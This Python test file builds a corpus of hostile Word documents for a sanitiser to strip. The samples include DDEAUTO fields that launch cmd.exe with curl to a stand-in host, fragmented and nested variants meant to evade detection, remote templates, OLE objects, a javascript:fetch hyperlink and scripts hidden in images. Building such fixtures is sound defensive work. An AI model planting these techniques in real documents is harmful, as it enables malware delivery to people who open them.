"""Text documents in which something acts: they come out without it."""

from tests.core.files.corpus.making import archive, png
from tests.core.files.corpus.making_docx import (
    HEAD,
    OFFICE,
    blip,
    body,
    docx,
    field,
    members,
    paragraph,
    part,
    relations,
)
from tests.core.files.corpus.shelf import DOCUMENTS, sent


@sent(DOCUMENTS)
def template_from_elsewhere() -> bytes:
    return archive(
        {
            **members(
                "",
                ("rId1", "settings", "settings.xml"),
                word__settings_xml=part("settings", '<w:attachedTemplate r:id="rId1"/><w:zoom w:percent="100"/>'),
            ),
            "word/_rels/settings.xml.rels": relations(
                ("rId1", "attachedTemplate", "http://mechant.test/a.dotm", "External")
            ),
        }
    )


@sent(DOCUMENTS)
def picture_from_elsewhere() -> bytes:
    return docx(blip('r:link="rId9"'), ("rId9", "image", "http://mechant.test/a.png", "External"))


@sent(DOCUMENTS)
def picture_from_elsewhere_in_disguise() -> bytes:
    return docx(blip('r:embed="rId9"'), ("rId9", "image", "http://mechant.test/a.png"))


@sent(DOCUMENTS)
def picture_on_another_machine() -> bytes:
    return docx(blip('r:embed="rId9"'), ("rId9", "image", "file://mechant.test/a.png", "External"))


@sent(DOCUMENTS)
def embedded_object() -> bytes:
    return docx(
        '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId9"/></w:object></w:r></w:p>',
        ("rId9", "oleObject", "embeddings/oleObject1.bin"),
        word__embeddings__oleObject1_bin=b"MZ mechant.test",
    )


@sent(DOCUMENTS)
def linked_object() -> bytes:
    return docx(
        '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="htmlfile" r:id="rId9" UpdateMode="OnCall"/></w:object></w:r></w:p>',
        ("rId9", "oleObject", "mhtml:http://mechant.test/a.html!x-usc:http://mechant.test/a.html", "External"),
    )


@sent(DOCUMENTS)
def embedded_workbook() -> bytes:
    return docx(
        "",
        ("rId9", "package", "embeddings/a.xlsx"),
        word__embeddings__a_xlsx=archive({"a": b"mechant.test"}, stored=True),
    )


@sent(DOCUMENTS)
def piece_of_the_web() -> bytes:
    return docx(
        '<w:altChunk r:id="rId9"/>',
        ("rId9", "aFChunk", "chunk.html"),
        word__chunk_html=b"<script src='http://mechant.test'></script>",
    )


@sent(DOCUMENTS)
def document_in_the_document() -> bytes:
    return docx('<w:subDoc r:id="rId9"/>', ("rId9", "subDocument", "http://mechant.test/a.docx", "External"))


@sent(DOCUMENTS)
def command_in_a_field() -> bytes:
    return docx(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k curl mechant.test"'))


@sent(DOCUMENTS)
def command_in_pieces() -> bytes:
    return docx(field("DD", "EAU", "TO cmd &quot;mech", "ant.test&quot;"))


@sent(DOCUMENTS)
def command_after_a_page_number() -> bytes:
    return docx(field(" PAGE ", " \\* MERGEFORMAT DDEAUTO mechant.test"))


@sent(DOCUMENTS)
def command_in_a_simple_field() -> bytes:
    return docx('<w:p><w:fldSimple w:instr="DDE cmd mechant.test"><w:r><w:t>a</w:t></w:r></w:fldSimple></w:p>')


@sent(DOCUMENTS)
def command_in_a_field_in_a_field() -> bytes:
    inner = field("QUOTE 68 68 69 65 85 84 79 mechant.test").removeprefix("<w:p>").removesuffix("</w:p>")
    return docx(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{inner}<w:r><w:instrText> PAGE </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


@sent(DOCUMENTS)
def field_that_never_ends() -> bytes:
    return docx(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE mechant.test</w:instrText></w:r></w:p>'
    )


@sent(DOCUMENTS)
def struck_out_command() -> bytes:
    return docx('<w:p><w:del w:id="1"><w:r><w:delInstrText>DDEAUTO mechant.test</w:delInstrText></w:r></w:del></w:p>')


@sent(DOCUMENTS)
def field_with_a_picture_from_elsewhere() -> bytes:
    return docx(field('INCLUDEPICTURE "http://mechant.test/a.png" \\\\d'))


@sent(DOCUMENTS)
def field_with_a_text_from_elsewhere() -> bytes:
    return docx(field('INCLUDETEXT "http://mechant.test/a.docx"'))


@sent(DOCUMENTS)
def field_with_a_link() -> bytes:
    return docx(field('HYPERLINK "file://mechant.test/a.exe"'))


@sent(DOCUMENTS)
def field_with_a_button() -> bytes:
    return docx(field("MACROBUTTON mechant.test Cliquez"))


@sent(DOCUMENTS)
def form_field_with_a_macro() -> bytes:
    return docx(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="mechant.test"/></w:ffData></w:fldChar></w:r>'
        '<w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


@sent(DOCUMENTS)
def link_to_a_script() -> bytes:
    return docx(
        '<w:p><w:hyperlink r:id="rId9" w:tooltip="mechant.test"><w:r><w:t>Ici</w:t></w:r></w:hyperlink></w:p>',
        ("rId9", "hyperlink", "javascript:fetch('//mechant.test')", "External"),
    )


@sent(DOCUMENTS)
def link_on_a_picture() -> bytes:
    return docx(
        blip('r:embed="rId8"', '<a:hlinkClick r:id="rId9"/><a:hlinkHover r:id="rId9"/>'),
        ("rId8", "image", "media/a.png"),
        ("rId9", "hyperlink", "http://mechant.test", "External"),
        word__media__a_png=png(),
    )


@sent(DOCUMENTS)
def picture_that_is_a_web_page() -> bytes:
    return docx(
        blip('r:embed="rId9"'), ("rId9", "image", "media/a.png"), word__media__a_png=b"<script>mechant.test</script>"
    )


@sent(DOCUMENTS)
def picture_with_a_page_behind_it() -> bytes:
    return docx(
        blip('r:embed="rId9"'),
        ("rId9", "image", "media/a.png"),
        word__media__a_png=png() + b"<script>mechant.test</script>",
    )


@sent(DOCUMENTS)
def picture_of_commands() -> bytes:
    emf = b"\x01\x00\x00\x00" + bytes(36) + b" EMF" + b"mechant.test"
    return docx(blip('r:embed="rId9"'), ("rId9", "image", "media/a.emf"), word__media__a_emf=emf)


@sent(DOCUMENTS)
def picture_with_a_script_beside_it() -> bytes:
    svg = '<a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><x:svgBlip xmlns:x="urn:x" r:embed="rId9"/></a:ext></a:extLst>'
    return docx(
        blip('r:embed="rId8"').replace("/></pic:blipFill>", f">{svg}</a:blip></pic:blipFill>"),
        ("rId8", "image", "media/a.png"),
        ("rId9", "image", "media/a.svg"),
        word__media__a_png=png(),
        word__media__a_svg=b"<svg onload='mechant.test'/>",
    )


@sent(DOCUMENTS)
def old_drawing_from_elsewhere() -> bytes:
    return docx(
        '<w:p><w:r><w:pict><v:shape id="a" href="http://mechant.test" onclick="mechant.test" style="width:9pt" target="_top">'
        '<v:imagedata src="http://mechant.test/a.png" r:href="rId9" o:href="http://mechant.test"/>'
        '<v:fill src="http://mechant.test"/><o:OLEObject Type="Link"/></v:shape></w:pict></w:r></w:p>',
        ("rId9", "image", "http://mechant.test/a.png", "External"),
    )


@sent(DOCUMENTS)
def chart() -> bytes:
    return docx(
        '<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart">'
        '<c:chart xmlns:c="urn:c" r:id="rId9"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>',
        ("rId9", "chart", "charts/chart1.xml"),
        word__charts__chart1_xml=b"<externalData>mechant.test</externalData>",
    )


@sent(DOCUMENTS)
def data_bound_to_the_text() -> bytes:
    return archive(
        {
            **members(
                '<w:sdt><w:sdtPr><w:dataBinding w:xpath="mechant.test"/><w:placeholder><w:docPart w:val="x"/></w:placeholder></w:sdtPr>'
                f"<w:sdtContent>{paragraph('Soudeuse')}</w:sdtContent></w:sdt>",
                ("rId9", "customXml", "../customXml/item1.xml"),
            ),
            "customXml/item1.xml": b"<a>mechant.test</a>",
            "docProps/custom.xml": b"<a>mechant.test</a>",
            "docProps/core.xml": b"<a>mechant.test</a>",
        }
    )


@sent(DOCUMENTS)
def letters_to_many_from_a_database() -> bytes:
    return archive(
        {
            **members(
                "",
                ("rId1", "settings", "settings.xml"),
                word__settings_xml=part(
                    "settings",
                    '<w:mailMerge><w:connectString w:val="DSN=mechant.test"/><w:dataSource r:id="rId1"/></w:mailMerge>'
                    '<w:docVars><w:docVar w:name="a" w:val="mechant.test"/></w:docVars>',
                ),
            ),
            "word/_rels/settings.xml.rels": relations(("rId1", "mailMergeSource", "http://mechant.test", "External")),
        }
    )


@sent(DOCUMENTS)
def frames_from_elsewhere() -> bytes:
    return archive(
        {
            **members(
                "",
                ("rId1", "webSettings", "webSettings.xml"),
                word__webSettings_xml=part(
                    "webSettings", '<w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset>'
                ),
            ),
            "word/_rels/webSettings.xml.rels": relations(("rId1", "frame", "http://mechant.test", "External")),
        }
    )


@sent(DOCUMENTS)
def command_in_a_header() -> bytes:
    return archive(
        {
            **members(
                '<w:p><w:pPr><w:sectPr><w:headerReference w:type="default" r:id="rId9"/></w:sectPr></w:pPr></w:p>',
                ("rId9", "header", "header1.xml"),
                word__header1_xml=part("hdr", field("DDEAUTO mechant.test") + blip('r:link="rId1"')),
            ),
            "word/_rels/header1.xml.rels": relations(("rId1", "image", "http://mechant.test/a.png", "External")),
        }
    )


@sent(DOCUMENTS)
def header_that_names_itself() -> bytes:
    again = '<w:p><w:pPr><w:sectPr><w:headerReference w:type="default" r:id="rId9"/></w:sectPr></w:pPr></w:p>'
    return archive(
        {
            **members(again, ("rId9", "header", "header1.xml"), word__header1_xml=part("hdr", again)),
            "word/_rels/header1.xml.rels": relations(("rId9", "header", "header1.xml")),
        }
    )


@sent(DOCUMENTS)
def note_with_a_picture_from_elsewhere() -> bytes:
    return archive(
        {
            **members(
                "",
                ("rId1", "footnotes", "footnotes.xml"),
                word__footnotes_xml=part(
                    "footnotes", '<w:footnote w:id="2">' + blip('r:link="rId1"') + "</w:footnote>"
                ),
            ),
            "word/_rels/footnotes.xml.rels": relations(("rId1", "image", "http://mechant.test/a.png", "External")),
        }
    )


@sent(DOCUMENTS)
def comment_and_glossary() -> bytes:
    return docx(
        '<w:p><w:commentRangeStart w:id="1"/><w:r><w:commentReference w:id="1"/></w:r></w:p>',
        ("rId1", "comments", "comments.xml"),
        ("rId2", "glossaryDocument", "glossary/document.xml"),
        word__comments_xml=part(
            "comments", f'<w:comment w:id="1" w:author="mechant.test">{paragraph("mechant.test")}</w:comment>'
        ),
        word__glossary__document_xml=body(field("DDEAUTO mechant.test")).encode(),
    )


@sent(DOCUMENTS)
def typeface_in_the_document() -> bytes:
    return archive(
        {
            **members(
                "",
                ("rId1", "fontTable", "fontTable.xml"),
                word__fontTable_xml=part("fonts", '<w:font w:name="A"><w:embedRegular r:id="rId1"/></w:font>'),
                word__fonts__font1_odttf=b"mechant.test",
            ),
            "word/_rels/fontTable.xml.rels": relations(("rId1", "font", "fonts/font1.odttf")),
        }
    )


@sent(DOCUMENTS)
def theme_from_elsewhere() -> bytes:
    theme = (
        f'{HEAD}<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="{OFFICE}" name="t">'
        '<a:themeElements><a:fmtScheme name="f"><a:bgFillStyleLst><a:blipFill><a:blip r:link="rId1"/></a:blipFill></a:bgFillStyleLst>'
        "</a:fmtScheme></a:themeElements></a:theme>"
    )
    return archive(
        {
            **members("", ("rId1", "theme", "theme/theme1.xml"), word__theme__theme1_xml=theme.encode()),
            "word/theme/_rels/theme1.xml.rels": relations(("rId1", "image", "http://mechant.test/a.png", "External")),
        }
    )


@sent(DOCUMENTS)
def element_of_another_world() -> bytes:
    return docx(
        '<x:script xmlns:x="http://mechant.test/ns">mechant.test</x:script><w:p x:on="mechant.test" xmlns:x="http://mechant.test/ns"/>'
    )


@sent(DOCUMENTS)
def archive_with_a_program_behind_it() -> bytes:
    return docx(word__a_exe=b"MZ mechant.test")


@sent(DOCUMENTS)
def instruction_for_a_stylesheet() -> bytes:
    parts = members()
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"<w:document", b"<?xml-stylesheet href='http://mechant.test'?><!-- mechant.test --><w:document"
    )
    return archive(parts)
